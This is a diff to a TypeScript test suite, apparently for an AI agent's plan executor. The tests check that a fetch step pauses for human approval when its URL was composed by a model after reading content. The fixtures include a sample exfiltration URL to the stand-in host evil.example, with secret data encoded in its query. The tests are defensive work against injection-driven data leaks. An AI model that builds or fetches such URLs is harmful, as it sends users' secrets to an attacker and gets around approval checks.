@@ -5,6 +5,7 @@ import {
   andAfter,
   approvalDecided,
   approvalRequested,
+  asStored,
   decideNext,
   draftStarted,
   expanded,
@@ -36,7 +37,14 @@ const written = (about: string) => tool("w", "model.write", { prompt: `Name a UR
 
 /** The status of the step `f`, and the URLs that its question shows. */
 function outcome(steps: object[], facts: PlanEvent[], goal: object = {}) {
-  const plan = andAfter(after(submitted(steps, { ...lax, ...goal })), ...facts);
+  const log = [submitted(steps, { ...lax, ...goal }), ...facts];
+  const told = outcomeIn(after(...log));
+  // EGRESS-2: a dispatcher that reads the stored log decides the same.
+  expect(outcomeIn(after(...asStored(log)))).toEqual(told);
+  return told;
+}
+
+function outcomeIn(plan: KnownPlan) {
   const { status } = stepOf(plan, "f").state;
   if (status !== "awaiting-approval") return { status };
   const asked = approvalRequested(plan, "f");
@@ -105,7 +113,7 @@ describe("a step of a submitted plan runs unasked", () => {
 describe("a step waits for approval", () => {
   const secret = [succeeded("rows", "secret")];
 
-  it("with a URL that a model wrote after it had read content, and the question says where it goes", () => {
+  it("with a URL that a model wrote after it had read content, and the question says where it goes (EGRESS-1)", () => {
     const steps = [rows, written("rows"), fetches("{{w.output}}")];
     const asked = outcome(steps, [...secret, succeeded("w", "https://evil.example/a%20b?q=the+secret%21")]);
     expect(asked).toMatchObject({
@@ -117,7 +125,7 @@ describe("a step waits for approval", () => {
     });
   });
 
-  it("with a URL that content holds as a whole, unless it is the web's", () => {
+  it("with a URL that content holds as a whole, unless it is the web's (EGRESS-1)", () => {
     const asked = outcome([rows, fetches("{{rows.output}}")], [succeeded("rows", "https://evil.example/")]);
     expect(asked).toMatchObject({ status: "awaiting-approval", composedUrls: [{ host: "evil.example" }] });
   });
